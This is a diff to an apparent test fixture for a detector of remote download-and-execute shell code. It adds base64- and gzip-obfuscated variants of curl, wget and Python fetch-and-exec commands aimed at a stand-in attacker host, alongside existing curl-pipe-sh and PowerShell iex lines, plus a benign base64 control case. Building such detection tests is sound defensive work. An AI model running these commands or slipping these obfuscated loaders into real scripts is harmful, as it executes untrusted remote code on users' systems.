@@ -201,6 +201,10 @@ SCRIPT_CARRIERS: list[tuple[str, str, dict[str, Any], tuple, str]] = [
     ("gcp_project_item", PROJECT_ITEM, {"key": "startup-script", "value": STARTUP_SCRIPT}, ("value",), "plain"),
 ]
 
+B64_CURL_SH = b64(f"curl -s {EVIL} | sh")
+GZ_B64_WGET = gz_b64(f"wget -qO- {EVIL} | bash")
+B64_PY_FETCH_EXEC = b64(f"import urllib.request as u;exec(u.urlopen('{EVIL}').read())")
+
 #: Shell forms that run downloaded code (each one line or a few).
 DOWNLOAD_FORMS: list[tuple[str, str]] = [
     ("curl_pipe_sh", f"curl -fsSL {EVIL} | sh"),
@@ -281,6 +285,11 @@ DOWNLOAD_FORMS: list[tuple[str, str]] = [
         "written_by_sh_c_from_stdin",
         f"curl -s {EVIL} | sudo sh -c 'cat > /usr/local/bin/x'\nchmod +x /usr/local/bin/x\nx",
     ),
+    ("base64_literal_decoded_into_sh", f"echo {B64_CURL_SH} | base64 -d | sh"),
+    ("base64_literal_in_variable", f"P={B64_CURL_SH}\necho $P | base64 --decode > /tmp/x.sh\nbash /tmp/x.sh"),
+    ("base64_literal_in_bash_c", f'bash -c "$(echo {B64_CURL_SH} | base64 -d)"'),
+    ("gzip_base64_here_string", f"base64 -d <<< {GZ_B64_WGET} | gunzip | sh"),
+    ("base64_python_program", f'python3 -c "$(echo {B64_PY_FETCH_EXEC} | base64 -d)"'),
     ("powershell_iex", f"powershell -Command \"iex ((New-Object Net.WebClient).DownloadString('{EVIL}'))\""),
 ]
 
@@ -527,6 +536,7 @@ NOT_DOWNLOADS: list[tuple[str, str]] = [
         'retry() { for i in 1 2 3; do "$@" && return 0; done; }\n'
         "R=$(curl -s http://169.254.169.254/latest/meta-data/placement/region)\nretry aws s3 ls --region $R",
     ),
+    ("base64_decoded_config", "echo UGVybWl0Um9vdExvZ2luIG5vCg== | base64 -d > /etc/motd"),
     ("log_function_with_metadata", 'log() { echo "$*"; }\nT=$(curl -s http://169.254.169.254/t)\nlog started $T'),
 ]
 
